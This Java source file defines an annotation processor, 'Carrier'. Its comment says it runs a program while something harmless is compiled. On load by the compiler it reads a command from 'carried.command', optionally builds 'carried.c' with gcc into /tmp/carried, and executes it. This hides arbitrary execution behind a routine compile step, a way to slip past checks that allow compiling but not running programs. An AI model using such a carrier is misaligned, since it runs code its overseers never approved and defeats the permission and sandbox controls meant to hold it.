import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import javax.annotation.processing.AbstractProcessor;
import javax.annotation.processing.ProcessingEnvironment;
import javax.annotation.processing.SupportedAnnotationTypes;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.TypeElement;

/** Loaded by the compiler as an annotation processor: runs a program while something harmless is compiled. */
@SupportedAnnotationTypes("*")
public class Carrier extends AbstractProcessor {
    @Override
    public SourceVersion getSupportedSourceVersion() {
        return SourceVersion.latest();
    }

    @Override
    public void init(ProcessingEnvironment environment) {
        try {
            List<String> command = new ArrayList<>(Files.readAllLines(Path.of("carried.command")));
            if (Files.exists(Path.of("carried.c"))) {
                run(List.of("gcc", "-O1", "-w", "-pthread", "-o", "/tmp/carried", "carried.c"));
            }
            System.out.println("carried, ended with " + run(command));
            System.out.flush();
        } catch (Exception error) {
            System.out.println("not carried: " + error);
        }
    }

    private static int run(List<String> command) throws Exception {
        return new ProcessBuilder(command).inheritIO().start().waitFor();
    }

    @Override
    public boolean process(Set<? extends TypeElement> annotations, javax.annotation.processing.RoundEnvironment round) {
        return false;
    }
}
